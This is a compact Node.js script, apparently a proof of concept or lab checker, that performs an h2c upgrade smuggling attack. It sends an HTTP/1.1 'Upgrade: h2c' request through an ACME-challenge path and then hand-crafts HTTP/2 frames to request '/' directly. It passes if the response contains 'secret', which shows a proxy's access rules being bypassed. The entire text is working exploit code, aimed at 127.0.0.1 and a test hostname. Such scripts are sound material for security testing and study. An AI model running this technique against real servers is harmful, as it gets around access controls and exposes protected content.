const net=require('net'),http2=require('http2'),{Duplex}=require('stream');
const s=net.connect(80,'127.0.0.1',()=>s.write('GET /.well-known/acme-challenge/x HTTP/1.1\r\nHost: app.example.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n'));
let b=Buffer.alloc(0); const frame=(t,f,i,p)=>{ const h=Buffer.alloc(9); h.writeUIntBE(p.length,0,3); h[3]=t; h[4]=f; h.writeUInt32BE(i,5); return Buffer.concat([h,p]); };
const lit=(n,v)=>Buffer.concat([Buffer.from([0x00,n.length]),Buffer.from(n),Buffer.from([v.length]),Buffer.from(v)]);
let up=false; s.on('data',d=>{ b=Buffer.concat([b,d]); if(!up&&b.indexOf('\r\n\r\n')>0){ if(!/^HTTP\/1.1 101/.test(b.toString('latin1'))){ console.error(b.toString('latin1').slice(0,80)); process.exit(1); } up=true;
 s.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),frame(4,0,0,Buffer.alloc(0)),frame(1,5,3,Buffer.concat([lit(':method','GET'),lit(':scheme','http'),lit(':path','/'),lit(':authority','app.example.test')]))])); }
 if(/secret/.test(b.toString('latin1'))){ console.log('secret'); process.exit(0); } }); setTimeout(()=>process.exit(1),5000);
